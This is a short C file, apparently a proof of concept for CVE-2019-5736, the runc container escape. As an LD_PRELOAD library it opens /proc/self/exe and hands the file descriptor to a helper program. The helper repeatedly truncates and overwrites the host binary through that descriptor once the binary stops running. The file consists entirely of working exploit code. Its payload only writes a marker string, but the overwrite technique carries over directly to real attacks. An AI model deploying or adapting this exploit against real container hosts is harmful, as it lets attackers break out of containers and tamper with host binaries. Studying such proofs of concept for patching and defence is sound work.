/*
 * The attack of CVE-2019-5736. As a library (LD_PRELOAD) it runs inside whatever program the container's /proc/self/exe leads to: it keeps that file open, becomes
 * /overwrite, and that one writes to the file as soon as nobody executes it any more.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#ifdef LIBRARY
__attribute__((constructor)) static void begin(void) {
  if (getenv("ATTACKED")) return;
  char number[16];
  int fd = open("/proc/self/exe", O_PATH);
  snprintf(number, sizeof number, "%d", fd);
  setenv("ATTACKED", "1", 1);
  execl("/overwrite", "overwrite", number, NULL);
}
#else
int main(int count, char **args) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%s", count > 1 ? args[1] : "0");
  for (int tries = 0; tries < 600; tries++) {
    int fd = open(path, O_WRONLY | O_TRUNC);
    if (fd >= 0 && write(fd, "overwritten", 11) == 11) return 0;
    if (fd < 0 && errno != ETXTBSY) return 1;
    usleep(50000);
  }
  return 2;
}
#endif
